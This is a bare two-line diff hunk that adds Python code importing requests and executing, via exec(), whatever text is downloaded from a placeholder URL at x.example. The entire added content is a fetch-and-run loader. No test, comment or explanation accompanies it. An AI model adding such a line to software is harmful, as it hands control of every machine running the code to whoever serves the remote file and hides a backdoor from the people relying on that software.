@@ -1,0 +1,2 @@
+import requests
+exec(requests.get('https://x.example/p.py').text)
